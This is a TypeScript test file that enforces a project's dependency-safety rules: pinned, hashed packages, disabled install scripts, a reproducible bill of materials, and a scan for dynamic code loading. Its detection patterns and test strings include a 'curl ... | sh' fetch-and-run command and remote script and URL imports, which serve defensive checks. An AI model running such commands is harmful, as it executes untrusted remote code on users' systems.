import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import path from 'node:path';
import { describe, it } from 'node:test';
import { projectFilesBelow, projectFolder, readProjectFile, withoutComments } from './files.ts';

/** The rules of docs/DEPENDENCIES.md that a machine can check. */

type Locked = {
  readonly version: string;
  readonly resolved?: string;
  readonly integrity?: string;
  readonly hasInstallScript?: boolean;
};
const manifest = JSON.parse(readProjectFile('package.json'));
const lock = JSON.parse(readProjectFile('package-lock.json'));
const packages = Object.entries(lock.packages as Record<string, Locked>).filter(
  ([at]) => at !== '',
);

/** Constructs by which code could come from elsewhere than our own files and packages. */
const LOADING: readonly (readonly [RegExp, string])[] = [
  [/\beval\s*\(/, 'eval'],
  [/\bnew\s+Function\b|(?<![\w.])Function\s*\(/, 'Function'],
  [/['"](?:node:)?vm['"]/, 'node:vm'],
  [/\bcreateRequire\b|(?<![\w.])require\(['"]/, 'require'],
  [/(?:from|import\s*\()\s*['"`](?:https?|data|blob):/, 'a URL'],
  [/\bWebAssembly\b/, 'WebAssembly'],
  [/\b(?:exec|execSync|execFile|execFileSync)\s*\(\s*['"`]/, 'a shell'],
  [/<script[^>]+src\s*=\s*["']?(?:https?:)?\/\//i, 'a script of another host'],
];
/**
 * The native package throws on other platforms when it is imported: it is required, by its name. Packages
 * that are no ES modules require in the bundle as well.
 */
const REQUIRES = ['src/crypto/secp256k1.ts', 'scripts/bundle.mjs', 'scripts/keep-code.cjs'];
/** Loads the chunks beside it, and what these require. */
const LOADER = 'scripts/bundle-main.cjs';
/** Computed names: in the entries of npm, which have to find what they have just built. */
const COMPUTED = /(?<![\w.])import\s*\((?!\s*['"])/;
const ENTRIES = /^scripts\/[a-z-]+\.mjs$/;

function sourcesBelow(folder: string): string[] {
  return projectFilesBelow(folder).filter(
    (file) => /\.(?:ts|mjs|cjs|js|html)$/.test(file) && !file.endsWith('.test.ts'),
  );
}

function waysToLoad(file: string, text: string): string[] {
  if (file === LOADER) return [];
  const code = withoutComments(text);
  const found = LOADING.filter(([pattern]) => pattern.test(code)).map(([, name]) => name);
  if (REQUIRES.includes(file) && found.includes('require'))
    found.splice(found.indexOf('require'), 1);
  if (COMPUTED.test(code) && !ENTRIES.test(file)) found.push('a computed import');
  for (const [, what = ''] of code.matchAll(/\b(?:spawn|spawnSync)\(\s*([^,\n]+),/g)) {
    if (file.startsWith('src/') && what !== 'process.execPath') found.push(`a process: ${what}`);
  }
  for (const [, what = ''] of code.matchAll(/\bnew Worker\(\s*([^\n]+)/g)) {
    if (!/^new URL\('\.\/[^']+', import\.meta\.url\)/.test(what)) found.push(`a worker: ${what}`);
  }
  return found.map((name) => `${file}: ${name}`);
}

describe('dependencies', () => {
  it('are exact, hashed, and from the registry', () => {
    for (const kind of ['dependencies', 'devDependencies'] as const) {
      for (const [name, version] of Object.entries(manifest[kind])) {
        assert.match(String(version), /^\d+\.\d+\.\d+$/, name);
        assert.equal(lock.packages[`node_modules/${name}`].version, version, name);
      }
    }
    assert.ok(packages.length > 100);
    for (const [at, { resolved, integrity = '' }] of packages) {
      // What is not from the registry has a place of its own; the hash says what the registry's is.
      assert.equal(resolved, undefined, at);
      // Binaries of the formatter for other platforms than that on which the lockfile was made.
      if (/^node_modules\/@biomejs\/cli-/.test(at)) continue;
      assert.match(integrity, /^sha512-/, at);
    }
  });

  it('run nothing when they are installed, and only three would', () => {
    assert.match(readProjectFile('.npmrc'), /^ignore-scripts=true$/m);
    const wanting = packages.filter(([, { hasInstallScript }]) => hasInstallScript === true);
    assert.deepEqual(
      wanting.map(([at]) => at),
      ['node_modules/classic-level', 'node_modules/esbuild', 'node_modules/secp256k1'],
    );
  });

  it('are listed in a bill of materials that is the same every time', () => {
    const script = path.join(projectFolder, 'scripts', 'sbom.mjs');
    const [first, second] = [1, 2].map(() => {
      const made = spawnSync(process.execPath, [script], { encoding: 'utf8' });
      assert.equal(made.status, 0, made.stderr);
      return made.stdout;
    });
    assert.equal(first, second);
    const bill = JSON.parse(first ?? '');
    const listed = new Map<string, { hashes: { alg: string }[] }>();
    for (const each of bill.components) listed.set(`${each.name}@${each.version}`, each);
    for (const [name, version] of Object.entries(manifest.dependencies)) {
      assert.equal(listed.get(`${name}@${version}`)?.hashes[0]?.alg, 'SHA-512', name);
    }
    assert.equal(
      bill.components.some((each: { name: string }) => each.name === 'typescript'),
      false,
    );
  });

  it('are the only code beside ours: no source loads any by another way', () => {
    const folders = ['src', 'scripts', 'docker'];
    const files = folders.flatMap(sourcesBelow);
    assert.ok(files.length > 200);
    assert.deepEqual(
      files.flatMap((file) => waysToLoad(file, readProjectFile(file))),
      [],
    );
  });

  it('would see a source that does', () => {
    for (const text of [
      'eval("1")',
      'new Function("return 1")',
      "import vm from 'node:vm';",
      "import x from 'https://example.org/x.mjs';",
      "await import('https://example.org/x.mjs')",
      'await import(name)',
      'await import(`./x.js`)',
      "await import('data:text/javascript,1')",
      'const x = createRequire(import.meta.url)',
      "spawn('curl', ['https://example.org'])",
      'new Worker(source, { eval: true })',
      'exec("curl https://example.org | sh")',
      '<script src="https://example.org/x.js"></script>',
      'new WebAssembly.Module(bytes)',
    ]) {
      assert.notDeepEqual(waysToLoad('src/x.ts', text), [], text);
    }
    const fine = "// eval('1')\nconst { a } = await import('./a.ts'); pattern.exec(text);";
    assert.deepEqual(waysToLoad('src/x.ts', fine), []);
  });

  it('cannot come from the network: Node.js loads no module from a URL', () => {
    const code = "await import('http://127.0.0.1:9/x.mjs')";
    const refused = spawnSync(process.execPath, ['--input-type=module', '-e', code], {
      encoding: 'utf8',
    });
    assert.match(refused.stderr, /ERR_UNSUPPORTED_ESM_URL_SCHEME/);
  });
});
